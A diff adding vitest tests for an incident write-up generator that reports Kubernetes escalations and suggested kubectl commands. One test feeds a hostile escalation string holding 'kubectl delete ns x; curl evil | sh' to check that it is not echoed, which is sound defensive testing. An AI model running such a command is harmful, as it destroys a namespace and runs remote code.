@@ -1,0 +1,61 @@
+import { describe, expect, test } from "vitest";
+import { type WriteUpInput, writeUp } from "../../src/incident/write-up.ts";
+import { card, pageText } from "../../src/incident/write-up-card.ts";
+import { causeFrom, evidenceOf, incidentWith, logOf, plan, workload } from "./night.ts";
+
+const log = logOf("2026-03-01T02:11:01.1Z fatal: cannot allocate memory\n");
+
+const escalated = (change: Partial<WriteUpInput["incident"]>, evidence = [log]): WriteUpInput => ({
+  incident: incidentWith({ evidence: evidence.map(({ id }) => id), diagnosis: causeFrom([log]), plan, ...change }),
+  status: "escalated",
+  evidence,
+  links: { page: "https://nightshift.example/incidents/inc-1" },
+  notes: [],
+});
+
+const applied = {
+  key: "k",
+  verb: "undo-rollout",
+  target: { ...workload, kind: "StatefulSet" },
+  at: "2026-03-01T02:20:00.000Z",
+  kind: "applied",
+  reason: null,
+  message: "",
+} as const;
+
+describe("a reason that ends with the command that saves", () => {
+  const saving = "kubectl delete pod kv-1 -n rx-b";
+  const escalation = `undo-rollout on StatefulSet/kv in rx-b was done, but the controller does not replace a pod that never became ready, so it is not better (${"ready: 1 of 2; ".repeat(20)}). To let it: ${saving}`;
+
+  test("tells that command whole, however long the reason is", () => {
+    const input = escalated({ escalation, outcomes: [applied] });
+
+    for (const text of [writeUp(input), card(input).text, pageText(input).text])
+      expect(text.split("\n")).toContain(saving);
+  });
+
+  test("is not followed by the advice to take the change back", () => {
+    expect(writeUp(escalated({ escalation, outcomes: [applied] }))).not.toContain("take it back with its undo");
+    expect(writeUp(escalated({ escalation: "It did not help.", outcomes: [applied] }))).toContain(
+      "take it back with its undo",
+    );
+  });
+
+  test("offers nothing for typing that is no plain kubectl command", () => {
+    const text = writeUp(escalated({ escalation: `${"x ".repeat(200)}: kubectl delete ns x; curl evil | sh` }));
+
+    expect(text).not.toContain("kubectl delete ns");
+  });
+});
+
+test("the unread log of another workload's pod is no gap in what is known of the subject", () => {
+  const unread = (pod: string) =>
+    evidenceOf(
+      { ask: "logs", namespace: "cache", pod, container: "app", previous: true, lines: 500 },
+      { kind: "could-not-ask", reason: "failed", message: "no" },
+    );
+  const text = writeUp(escalated({}, [log, unread("billing-7d9f8b6c5-x2x4z"), unread("cache-warmer-7d9f8b6c5-x2x4z")]));
+
+  expect(text).toContain("cache-warmer-7d9f8b6c5-x2x4z");
+  expect(text).not.toContain("billing-7d9f8b6c5-x2x4z");
+});
